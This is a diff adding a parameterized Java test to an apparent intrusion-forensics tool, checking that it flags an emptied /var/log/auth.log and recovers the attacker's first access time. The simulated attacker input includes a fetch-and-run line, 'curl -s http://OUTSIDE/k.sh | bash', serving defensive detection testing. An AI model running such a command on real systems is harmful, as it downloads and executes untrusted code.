@@ -236,6 +236,21 @@ final class IntrusionStoriesTest {
 
   @ParameterizedTest
   @EnumSource
+  void aLogThatStillKnowsTheEndOfWhatWasTakenOutOfIt(Style style) throws IOException {
+    TextSite site = Ordinary.site(style, 12);
+    TextHost web = site.host("web01", "10.1.0.10");
+    web.login("9 20:40:00", 25, "alice", OUTSIDE, Ordinary.ALICE)
+        .types("curl -s http://" + OUTSIDE + "/k.sh | bash");
+    web.emptied("var/log/auth.log", TextSite.at("9 06:25:00"), TextSite.at("9 20:50:00"));
+    Incident incident = site.analyze(folder);
+    assertThat(incident.tampering())
+        .extracting(Incident.Tampering::path)
+        .containsExactly("/var/log/auth.log");
+    assertThat(instant(incident.dwell().firstAccess())).isEqualTo("2025-03-09T20:40:00Z");
+  }
+
+  @ParameterizedTest
+  @EnumSource
   void twoActorsWhoHaveNothingInCommon(Style style) throws IOException {
     TextSite site = Ordinary.site(style, 12);
     TextHost web = site.host("web01", "10.1.0.10");
